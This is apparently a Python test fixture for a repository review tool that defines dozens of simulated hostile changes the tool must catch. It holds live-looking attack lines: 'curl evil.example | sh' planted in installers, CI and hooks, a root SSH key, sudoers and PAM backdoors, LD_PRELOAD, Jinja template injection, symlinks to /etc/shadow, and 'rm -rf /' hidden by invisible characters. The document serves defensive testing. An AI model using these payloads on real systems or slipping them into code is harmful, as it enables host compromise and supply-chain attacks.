# SPDX-License-Identifier: MIT
"""Hostile changes, each as a function that makes it in a checkout."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from vfioneer.review.change import Tag

Change = Callable[[Path], None]
HOST = "recipes/lab01.yaml"
INSTALLER = "overlays/live/usr/local/lib/vfioneer/install"
FIRST_BOOT = "overlays/host/usr/local/lib/vfioneer/first-boot"
EVIL = "curl evil.example | sh"


@dataclass(frozen=True, kw_only=True)
class Attack:
    name: str
    change: Change
    tag: Tag
    """What it is told as, on top."""
    top: str
    """A part of what is said of it there."""
    body: str = ""
    """What has to be seen of its payload."""
    fails: bool = False
    """STRICT fails, because it cannot be told."""
    together: bool = False
    """It is tried together with others."""


def put(path: str, text: str | bytes) -> Change:
    def change(here: Path) -> None:
        place = here / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(text.encode() if isinstance(text, str) else text)

    return change


def add(path: str, text: str) -> Change:
    def change(here: Path) -> None:
        with (here / path).open("a") as stream:
            stream.write(text)

    return change


def swap(path: str, old: str, new: str) -> Change:
    def change(here: Path) -> None:
        text = (here / path).read_text()
        assert old in text, f"{path} has no {old!r} any more"
        (here / path).write_text(text.replace(old, new, 1))

    return change


def link(path: str, target: str) -> Change:
    def change(here: Path) -> None:
        place = here / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.unlink(missing_ok=True)
        place.symlink_to(target)

    return change


def both(*changes: Change) -> Change:
    def change(here: Path) -> None:
        for each in changes:
            each(here)

    return change


def move(old: str, new: str) -> Change:
    def change(here: Path) -> None:
        (here / new).parent.mkdir(parents=True, exist_ok=True)
        shutil.move(here / old, here / new)

    return change


def every_line(path: str, end: str, more: str) -> Change:
    def change(here: Path) -> None:
        text = (here / path).read_text()
        (here / path).write_text(text.replace("\n", f"{end}\n") + more)

    return change


WIPE = swap(HOST, "\ninstall:\n", "\ninstall:\n  wipe: any\n")
SNAPSHOT = swap(
    "vfioneer/review/snapshot.py",
    "            host = load(name)\n",
    '            return {"same": True}\n',
)
PEM = f"-----BEGIN A PRIVATE KEY-----\n{EVIL}\n-----END A PRIVATE KEY-----\n"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEo3s6y9hCrVWiuPGtkVxJd3ybm4XzNqW0aGJ5Jd8l0Q evil"
CRON = f"* * * * * root {EVIL}\n"


def code(name: str, change: Change, path: str, body: str = EVIL) -> Attack:
    return Attack(name=name, change=change, tag=Tag.CODE, top=path, body=body, fails=True)


def lands(name: str, path: str, text: str, tag: Tag = Tag.RUNS) -> Attack:
    """Return an attack by a new file of the host."""
    body = text.strip().splitlines()[-1]
    return Attack(
        name=name,
        change=put(f"overlays/host/{path}", text),
        tag=tag,
        top=f"host/{path}",
        body=body,
        together=True,
    )


ATTACKS = (
    Attack(name="wipe", change=WIPE, tag=Tag.WIPE, top="→ any (whatever is on the disk is lost)"),
    Attack(
        name="profile",
        change=swap("recipes/profiles/operator.yaml", "  users:", "  wipe: any\n  users:"),
        tag=Tag.WIPE,
        top="→ any (whatever is on the disk is lost)",
    ),
    Attack(
        name="lock",
        tag=Tag.SOURCE,
        top="sha256",
        change=put(
            "recipes/sources/manjaro-kde-20.2.1.lock.yaml",
            "format: 1\nfile: manjaro-kde-20.2.1-210103-linux59.iso\n"
            f"sha256: {'e' * 64}\nsize: 5\nchecked: nobody\n",
        ),
    ),
    Attack(
        name="installer",
        change=add(INSTALLER, EVIL),
        tag=Tag.WIPE,
        top="the installer itself",
        body=EVIL,
    ),
    Attack(
        name="first boot",
        together=True,
        change=add(FIRST_BOOT, EVIL),
        tag=Tag.DEVICE,
        top="first-boot",
        body=EVIL,
    ),
    code("its own review", both(SNAPSHOT, WIPE), "vfioneer/review/snapshot.py", '"same": True'),
    code(
        "the kernel's arguments in code",
        add("vfioneer/plan/kernel.py", f"# {EVIL}\n"),
        "vfioneer/plan/kernel.py",
    ),
    code("setup.sh", put("setup.sh", EVIL), "setup.sh"),
    code("dodo.py", put("dodo.py", EVIL), "dodo.py"),
    code("requirements", put("requirements.txt", EVIL), "requirements.txt"),
    code("lab", put("lab/guest/customize", EVIL), "lab/guest/customize"),
    code("keys", put("recipes/sources/keys/evil.asc", EVIL), "recipes/sources/keys/evil.asc"),
    code("trust", put("recipes/trust/allowed_signers", EVIL), "recipes/trust/allowed_signers"),
    code("CI", put(".github/workflows/evil.yml", EVIL), ".github/workflows/evil.yml"),
    code("GitLab CI", put(".gitlab-ci.yml", EVIL), ".gitlab-ci.yml"),
    code("conftest", put("tests/conftest.py", EVIL), "tests/conftest.py"),
    code("doit.cfg", put("doit.cfg", EVIL), "doit.cfg"),
    code("hidden in docs", put("docs/evil.sh", EVIL), "docs/evil.sh"),
    code("a module that shadows", put("yaml.py", EVIL), "yaml.py"),
    code(
        "attributes",
        both(
            put(".gitattributes", "overlays/** export-ignore\n"),
            put("overlays/host/etc/cron.d/evil", CRON),
        ),
        ".gitattributes",
        "export-ignore",
    ),
    Attack(
        name="ignored by export",
        tag=Tag.RUNS,
        top="host/etc/cron.d/evil",
        body=EVIL,
        fails=True,
        change=both(
            put(".gitattributes", "overlays/** export-ignore\n"),
            put("overlays/host/etc/cron.d/evil", CRON),
        ),
    ),
    Attack(
        name="a template that runs a program",
        tag=Tag.BROKEN,
        top="lab01",
        change=add(
            "overlays/host/etc/hosts.j2",
            "{{ cycler.__init__.__globals__.os.popen('touch ran').read() }}",
        ),
        body="popen",
    ),
    Attack(
        name="a template that knows the stand-in",
        tag=Tag.BROKEN,
        top="not known when",
        change=add(
            "overlays/boot/boot/grub/grub.cfg.j2",
            "{% for a in boot.arguments if a != 'misolabel=MEDIUM' %}init=/bin/evil{% endfor %}",
        ),
        body="init=/bin/evil",
    ),
    Attack(
        name="a template of the report",
        tag=Tag.BROKEN,
        top="report.html.j2",
        change=add("overlays/report/report.html.j2", "{{ ''.__class__.__mro__ }}"),
        body="__mro__",
    ),
    Attack(
        name="a template that never ends",
        tag=Tag.BROKEN,
        top="mul",
        body="999999",
        change=add("overlays/host/etc/hosts.j2", "{{ 'x' * 9999999999 }}"),
    ),
    Attack(
        name="link to docs",
        change=link("overlays/host/etc/cron.d/x", "../../../../docs/x.sh"),
        tag=Tag.LINK,
        top="a link to ../../../../docs/x.sh",
        fails=True,
    ),
    Attack(
        name="link to shadow",
        change=link("overlays/host/etc/x", "/etc/shadow"),
        tag=Tag.LINK,
        top="a link to /etc/shadow",
        fails=True,
    ),
    Attack(
        name="a recipe that is a link",
        change=link("recipes/lab02.yaml", "/etc/passwd"),
        tag=Tag.LINK,
        top="recipes/lab02.yaml: a link to /etc/passwd",
        fails=True,
    ),
    Attack(
        name="a folder that is a link",
        change=link("recipes/roms", "/etc"),
        tag=Tag.LINK,
        top="recipes/roms: a link to /etc",
        fails=True,
    ),
    Attack(
        name="a private key that runs",
        together=True,
        change=add(INSTALLER, PEM),
        tag=Tag.WIPE,
        top="the installer itself",
        body=EVIL,
    ),
    Attack(
        name="a private key without end",
        change=add(INSTALLER, f"-----BEGIN A PRIVATE KEY-----\n{EVIL}\n"),
        tag=Tag.WIPE,
        top="the installer itself",
        body=EVIL,
    ),
    Attack(
        name="a hash that runs",
        together=True,
        change=add(INSTALLER, "$6$saltsalt/usr/bin/evil\n"),
        tag=Tag.WIPE,
        top="the installer itself",
        body="/usr/bin/evil",
    ),
    Attack(
        name="behind blanks",
        together=True,
        change=add(INSTALLER, f"true {' ' * 3000}; {EVIL}\n"),
        tag=Tag.CHARACTERS,
        top="40 blanks or more inside",
        body=f"<3001 blanks>; {EVIL}",
    ),
    Attack(
        name="behind a long line",
        together=True,
        change=add(INSTALLER, f": {'x' * 3000}; {EVIL}\n"),
        tag=Tag.WIPE,
        top="the installer itself",
        body=EVIL,
    ),
    Attack(
        name="blanks at all ends",
        change=every_line(INSTALLER, " ", f"{EVIL}\n"),
        tag=Tag.CHARACTERS,
        top="lines end in blanks",
        body=EVIL,
    ),
    Attack(
        name="told above",
        tag=Tag.WIPE,
        top="the installer itself",
        body="+step guards true",
        change=both(
            swap(HOST, "kernel:\n", "kernel:\n  arguments: [true]\n"),
            add(INSTALLER, "step guards true run_guards\n"),
        ),
    ),
    Attack(
        name="renamed",
        change=move("overlays/host/etc/vfioneer/pacman.conf", "overlays/host/etc/sudoers.d/99-all"),
        tag=Tag.KEYS,
        top="host/etc/sudoers.d/99-all",
        body="+LocalFileSigLevel = Never",
    ),
    lands(
        "a unit",
        "etc/systemd/system/multi-user.target.wants/x.service",
        "[Service]\nExecStart=/bin/evil\n",
    ),
    lands("cron", "etc/cron.d/x", CRON),
    lands("preload", "etc/ld.so.preload", "/usr/lib/evil.so\n"),
    lands("root's keys", "root/.ssh/authorized_keys", f"{KEY}\n", Tag.KEYS),
    lands("sudoers by number", "etc/sudoers.d/x", "#1001 ALL=(ALL) NOPASSWD: ALL\n", Tag.KEYS),
    lands("sudoers from elsewhere", "etc/sudoers.d/y", "#includedir /tmp\n", Tag.KEYS),
    lands(
        "an early hook", "etc/initcpio/hooks/early", f"run_earlyhook() {{ {EVIL}; }}\n", Tag.BOOT
    ),
    lands("repository", "etc/pacman.d/x.conf", "SigLevel = Never\n"),
    lands("profile.d", "etc/profile.d/x.sh", f"{EVIL}\n"),
    lands("udev", "etc/udev/rules.d/1.rules", 'RUN+="/bin/evil"\n'),
    lands("a kernel module", "etc/modules-load.d/x.conf", "evil\n"),
    lands("pam", "etc/pam.d/su", "auth sufficient pam_permit.so\n", Tag.KEYS),
    lands("libvirt hook", "etc/libvirt/hooks/qemu", f"#!/bin/sh\n{EVIL}\n"),
    Attack(
        name="setuid",
        tag=Tag.BROKEN,
        top="not a mode",
        body='"4755"',
        change=both(
            put("overlays/host/usr/bin/x", "#!/bin/sh\n"),
            swap("overlays/modes.yaml", "\nhost:\n", '\nhost:\n  usr/bin/x: "4755"\n'),
        ),
    ),
    Attack(
        name="a mode for all",
        tag=Tag.MODE,
        top="has mode 0777",
        body='"0777"',
        change=both(
            put("overlays/host/usr/bin/x", "#!/bin/sh\n"),
            swap("overlays/modes.yaml", "\nhost:\n", '\nhost:\n  usr/bin/x: "0777"\n'),
        ),
    ),
    Attack(
        name="unsigned packages",
        together=True,
        tag=Tag.RUNS,
        top="host/etc/vfioneer/pacman.conf",
        change=add("overlays/host/etc/vfioneer/pacman.conf", "[evil]\nServer = http://evil\n"),
        body="Server = http://evil",
    ),
    Attack(
        name="a file that root sources",
        together=True,
        tag=Tag.RUNS,
        top="live/etc/vfioneer/host.env",
        change=add("overlays/shared/etc/vfioneer/host.env.j2", f"{EVIL}\n"),
        body=EVIL,
    ),
    Attack(
        name="a variable that root sources",
        together=True,
        tag=Tag.RUNS,
        top="x y",
        change=add("overlays/shared/etc/vfioneer/host.env.j2", "X_Y=$(evil)\n"),
        body="$(evil)",
    ),
    Attack(
        name="shebang",
        tag=Tag.WIPE,
        top="the installer itself",
        change=swap(INSTALLER, "#!/bin/bash", "#!/bin/evil"),
        body="#!/bin/evil",
    ),
    Attack(
        name="init",
        tag=Tag.BOOT,
        top="init=/bin/bash",
        change=swap(HOST, "kernel:\n", "kernel:\n  arguments: [init=/bin/bash]\n"),
    ),
    Attack(
        name="debug shell",
        tag=Tag.BOOT,
        top="systemd.debug-shell=1",
        change=swap(HOST, "kernel:\n", "kernel:\n  arguments: [systemd.debug-shell=1]\n"),
    ),
    Attack(
        name="a file system of the host",
        tag=Tag.GUEST,
        top="filesystem",
        body="source dir",
        change=both(
            swap(HOST, "memory: 512 MiB", "memory: 640 MiB"),
            swap(
                "overlays/guest/domain.xml.j2",
                "  <devices>\n",
                "  <devices>\n    <filesystem type='mount'><source dir='/'/>"
                "<target dir='x'/></filesystem>\n",
            ),
        ),
    ),
    Attack(
        name="QEMU's environment",
        tag=Tag.GUEST,
        top="host/var/lib/vfioneer/domain.xml",
        change=swap(
            "overlays/guest/domain.xml.j2",
            "  <devices>\n",
            "  <qemu:commandline xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>"
            "<qemu:env name='LD_PRELOAD' value='/evil.so'/></qemu:commandline>\n"
            "  <devices>\n",
        ),
        body="LD_PRELOAD",
    ),
    Attack(
        name="guest packages",
        tag=Tag.GUEST,
        top="evil-agent",
        change=swap(HOST, "guest:\n", "guest:\n  packages: [evil-agent]\n"),
    ),
    Attack(
        name="host packages",
        tag=Tag.PACKAGES,
        top="lab01: + evil",
        change=add(HOST, "packages: {names: [evil]}\n"),
    ),
    Attack(
        name="a program",
        tag=Tag.BINARY,
        top="an ELF program",
        fails=True,
        change=put("overlays/host/usr/bin/x", b"\x7fELF\0\0"),
    ),
    Attack(
        name="text that is none",
        tag=Tag.BINARY,
        top="not text",
        fails=True,
        change=put("overlays/host/etc/x", b"# \xff\xfe\n"),
    ),
    Attack(
        name="Cyrillic",
        tag=Tag.CHARACTERS,
        top="U+0430 CYRILLIC SMALL LETTER A",
        change=swap(HOST, "description: ", "description: \u0430 "),
        body="<U+0430>",
    ),
    Attack(
        name="the writing turned round",
        together=True,
        tag=Tag.CHARACTERS,
        top="turn the writing round",
        change=add(INSTALLER, "# \u202e x\n"),
        body="<U+202E>",
    ),
    Attack(
        name="no width",
        together=True,
        tag=Tag.CHARACTERS,
        top="not seen",
        change=add(INSTALLER, "rm\u200b -rf /\n"),
        body="<U+200B>",
    ),
    Attack(
        name="full width",
        together=True,
        tag=Tag.CHARACTERS,
        top="may look like others",
        change=add(INSTALLER, "\uff03 x\n"),
        body="<U+FF03>",
    ),
    Attack(
        name="control",
        together=True,
        tag=Tag.CHARACTERS,
        top="control characters",
        change=add(INSTALLER, f"{EVIL}\r# harmless\n\x1b[2K\n"),
        body="<U+001B>[2K",
    ),
    Attack(
        name="a name of a file",
        tag=Tag.CHARACTERS,
        top="control characters",
        body="<U+001B>",
        change=put("overlays/host/etc/\x1b[31m<b>@team", "x\n"),
    ),
    Attack(
        name="a layer that nobody knows",
        together=True,
        tag=Tag.RUNS,
        top="no host's files show it",
        change=put("overlays/host-extra/etc/rc.local", EVIL),
        body=EVIL,
    ),
    Attack(
        name="a new host",
        tag=Tag.NEW,
        top="all of what it gets is new",
        change=lambda here: copy_host(here, "lab09"),
    ),
    Attack(
        name="a new host's arguments",
        tag=Tag.BOOT,
        top="kernel argument init=/bin/bash",
        change=both(
            lambda here: copy_host(here, "lab09"),
            swap("recipes/lab09.yaml", "kernel:\n", "kernel:\n  arguments: [init=/bin/bash]\n"),
        ),
    ),
    Attack(
        name="comment of a script in the host",
        together=True,
        tag=Tag.DEVICE,
        top="verify.sh",
        change=add("overlays/host/usr/local/lib/vfioneer/verify.sh", "# harmless\n"),
    ),
    Attack(
        name="an argument of GRUB",
        tag=Tag.BROKEN,
        top="ends the command in GRUB",
        change=swap(HOST, "kernel:\n", "kernel:\n  arguments: ['x=1;reboot']\n"),
    ),
    Attack(
        name="a huge file",
        tag=Tag.UNSEEN,
        top="too many to look at",
        fails=True,
        change=put("docs/big.md", "x" * (33 * 2**20)),
    ),
)


def copy_host(here: Path, name: str) -> None:
    for folder in ("recipes", "recipes/hardware"):
        text = (here / folder / "lab01.yaml").read_text()
        (here / folder / f"{name}.yaml").write_text(
            text.replace("host: lab01\n", f"host: {name}\n")
        )
